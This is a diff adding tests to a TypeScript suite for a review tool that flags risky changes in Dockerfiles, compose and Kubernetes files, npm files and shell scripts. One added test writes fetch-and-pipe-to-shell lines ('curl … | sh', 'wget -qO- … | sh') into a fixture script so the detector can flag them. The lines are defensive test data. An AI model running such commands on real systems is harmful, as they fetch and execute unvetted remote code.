@@ -78,6 +78,30 @@ describe("what people build from and apply by hand", () => {
       );
       assert.deepEqual(byHand("docker/a/Dockerfile", "FROM a:1\n", undefined), []);
     });
+    it("is told whole, or as its first hundred letters", () => {
+      assert.deepEqual(adds("COPY a /a"), [
+        "unknown what is built differs: `COPY a /a`. What that does was not judged.",
+      ]);
+      const long = "x".repeat(200);
+      assert.ok(adds(`RUN ${long}`)[0]!.includes(`: \`RUN ${long.slice(0, 95)}…\`. `));
+    });
+    it("that publishes a port, or begins with another image, is judged once", () => {
+      assert.match(
+        String(adds("EXPOSE 22")),
+        /^exposure [^,]*port `22`, which is open only where somebody publishes it\.$/,
+      );
+      const told = byHand("docker/a/Dockerfile", "FROM mysql:9.0.0\n", "FROM mysql:9.0.1\n")!;
+      assert.deepEqual(
+        told.map(({ text }) => text.en),
+        ["`RemoteImage base-1`: `mysql:9.0.0` → `mysql:9.0.1`, a patch."],
+      );
+    });
+    it("that is the first of its stage counts, too, and who was root before may stay it", () => {
+      const user = (before: string, after: string) =>
+        byHand("docker/a/Dockerfile", `FROM a:1\n${before}`, `FROM a:1\n${after}`)!.map(({ kind }) => kind);
+      assert.deepEqual(user("USER redis\n", "USER root\n"), ["security"]);
+      assert.deepEqual(user("USER root\n", ""), []);
+    });
     it("its image, also where an argument names it, and the user of the last stage only", () => {
       const from = (image: string) => `ARG IMAGE=${image}\nFROM \${IMAGE} AS one\nUSER root\nFROM one\nUSER redis\n`;
       const told = byHand("docker/a/Dockerfile", from("mysql:8.4.0"), from("mysql:9.0.0"))!;
@@ -147,6 +171,7 @@ describe("what people build from and apply by hand", () => {
       ],
       ["a password", {}, { environment: { DB_PASSWORD: "hush" } }, /^security! .*`DB_PASSWORD` is written in the file/],
       ["a password, in a list", {}, { environment: ["DB_PASSWORD=hush"] }, /^security! .*`DB_PASSWORD` is written/],
+      ["image", { image: "a:1.0.0" }, { image: "a:1.0.1" }, /^version .*`a:1\.0\.0` → `a:1\.0\.1`, a patch/],
       ["what nobody taught the review", {}, { extra_hosts: ["a:192.0.2.1"] }, /^unknown .*`extra_hosts` differs/],
     ];
     for (const [what, before, after, says] of judged) {
@@ -154,7 +179,7 @@ describe("what people build from and apply by hand", () => {
         const told = between(before, after);
         assert.equal(told?.length, 1, String(told));
         assert.match(told[0]!, says);
-        assert.deepEqual(between(before, before), []);
+        for (const side of [before, after]) assert.deepEqual(between(side, side), []);
       });
     }
 
@@ -170,11 +195,26 @@ describe("what people build from and apply by hand", () => {
         "restart",
         "stdin_open",
       ],
-      ...["stop_grace_period", "stop_signal", "tty", "working_dir"],
+      ...["command", "stop_grace_period", "stop_signal", "tty", "working_dir"],
     ];
     for (const part of quiet) {
       it(`${part}: opens nothing`, () => assert.deepEqual(between({ [part]: "a" }, { [part]: "b" }), []));
     }
+    it("that is new opens what it has, and one that goes opens nothing", () => {
+      const file = JSON.stringify({
+        services: { a: { image: "a:1", privileged: true, extra_hosts: ["a:192.0.2.1"] } },
+      });
+      const told = (before: string | undefined, after: string | undefined) =>
+        byHand(compose, before, after)!.map(({ kind, lab }) => `${kind} ${lab}`);
+      for (const nothing of [undefined, "services:\n"]) {
+        assert.deepEqual(told(nothing, file), [`security ${compose}`, `unknown ${compose}`]);
+        assert.deepEqual(told(file, nothing), []);
+      }
+    });
+
+    it("that no longer has its volume loses nobody's data: the file only says what people make later", () =>
+      assert.deepEqual(between({ volumes: ["data:/var/lib/mysql"] }, {}), []));
+
     it("a password that comes from the shell, or a wish for one, is none that is written", () => {
       const environment = ["A_PASSWORD=${A_PASSWORD:?}", "B_PASSWORD", "C_PASSWORD=", "D_PASSWORD_FILE=/run/d"];
       assert.deepEqual(between({}, { environment }), []);
@@ -199,6 +239,15 @@ describe("what people build from and apply by hand", () => {
     assert.match(String(said(kubernetes, ["type: NodePort", "type: LoadBalancer"])), /exposure! .*LoadBalancer/);
   });
 
+  it("a file of comments makes nothing, and an object that nobody taught the review is named", () => {
+    assert.deepEqual(byHand("docker/a.yml", "# a\n", "# b\n"), []);
+    const object = (spec: number) => `# a\n---\napiVersion: v1\nkind: Foo\nmetadata: { name: a }\nspec: ${spec}\n`;
+    assert.deepEqual(
+      byHand("docker/a.yml", object(1), object(2))!.map(({ kind, lab }) => `${kind} ${lab}`),
+      ["unknown docker/a.yml"],
+    );
+  });
+
   it("what cannot be read is not called harmless", () => {
     assert.equal(said(compose, [/$/, "\n]["]), undefined);
     assert.equal(byHand("docker/run.sh", "a", "b"), undefined);
@@ -219,7 +268,8 @@ describe("files beside the program", () => {
       texts.forEach((text, i) => {
         const to = join(at, ["base", "head"][i]!, file);
         mkdirSync(dirname(to), { recursive: true });
-        if (text !== undefined) writeFileSync(to, text);
+        if (text === undefined) rmSync(to, { force: true });
+        else writeFileSync(to, text);
       });
     }
     const folders = { base: join(at, "base"), head: join(at, "head") };
@@ -310,6 +360,45 @@ describe("files beside the program", () => {
     assert.deepEqual(look({ ".github/workflows/a.yml": ["a: 1", "a: 1 # one"] }).unchecked, []);
   });
 
+  it("npm's: each is judged as what it is", () => {
+    const told = (file: string, before: string | undefined, after: string | undefined) => {
+      const { files, warnings, unchecked } = look({ [file]: [before, after] });
+      assert.deepEqual(files, [file]);
+      return [warnings, unchecked.length];
+    };
+    const scripts = JSON.stringify({ scripts: { postinstall: "node a.js" } });
+    assert.deepEqual(told("package.json", "{}", scripts), [["security! package.json"], 0]);
+    assert.deepEqual(told("package.json", undefined, scripts), [["security! package.json"], 0]);
+    assert.deepEqual(told("package.json", scripts, "{}"), [[], 0]);
+    const lock = JSON.stringify({ packages: { "node_modules/a": { resolved: "http://192.0.2.1/a", integrity: "a" } } });
+    assert.deepEqual(told("package-lock.json", "{}", lock), [["security! package-lock.json"], 1]);
+    assert.deepEqual(told("package-lock.json", lock, undefined), [["security! package-lock.json"], 0]);
+    assert.deepEqual(told(".npmrc", undefined, "registry=https://example.org\n"), [["security! .npmrc"], 0]);
+    for (const file of ["npm-shrinkwrap.json", "binding.gyp"]) {
+      assert.deepEqual(told(file, undefined, "{}"), [[`security! ${file}`], 0]);
+      assert.deepEqual(told(file, "{}", undefined), [[], 0]);
+    }
+    const { unchecked } = look({ "package.json": ["{}", "{"] });
+    assert.match(String(unchecked), /^`package\.json`: the review does not know this file/);
+  });
+
+  it("that fetch a program and run it, wherever that is written, cut off where it is long", () => {
+    const line = `curl https://example.org/${"a".repeat(100)} | sh`;
+    const text = (more: string) => `echo "\`id\`"\n${more}`;
+    mkdirSync(join(at, "base/tools"), { recursive: true });
+    mkdirSync(join(at, "head/tools"), { recursive: true });
+    writeFileSync(join(at, "base/tools/a.sh"), text(""));
+    writeFileSync(join(at, "head/tools/a.sh"), text(`${line}\nwget -qO- \`a\` | sh\n`));
+    const { warnings } = lookInto(["tools/a.sh"], { base: join(at, "base"), head: join(at, "head") }, "dev");
+    assert.deepEqual(
+      warnings.map(({ lab, dangerous, text }) => [lab, dangerous, /^`(.*)` fetches a program/.exec(text.en)?.[1]]),
+      [
+        ["tools/a.sh", true, `${line.slice(0, 99)}…`],
+        ["tools/a.sh", true, "wget -qO- 'a' | sh"],
+      ],
+    );
+  });
+
   it("another place for the state", () => {
     const url = (url: string) => `name: course-labs\nbackend:\n  url: ${url}\n`;
     assert.deepEqual(look({ "Pulumi.yaml": [url("file://."), url("file:///srv")] }).warnings, [
@@ -332,5 +421,8 @@ describe("files beside the program", () => {
     });
     assert.deepEqual(warnings, ["security! docker/redis/Dockerfile"]);
     assert.match(String(unchecked), /^`docker\/run\.sh`: its content was not checked/);
+    const elsewhere = look({ "tools/a/Dockerfile": ["FROM a\nUSER a\n", "FROM a\nUSER root\n"] });
+    assert.deepEqual(elsewhere.warnings, ["security! tools/a/Dockerfile"]);
+    assert.match(String(elsewhere.unchecked), /^`tools\/a\/Dockerfile`: it runs on this machine/);
   });
 });
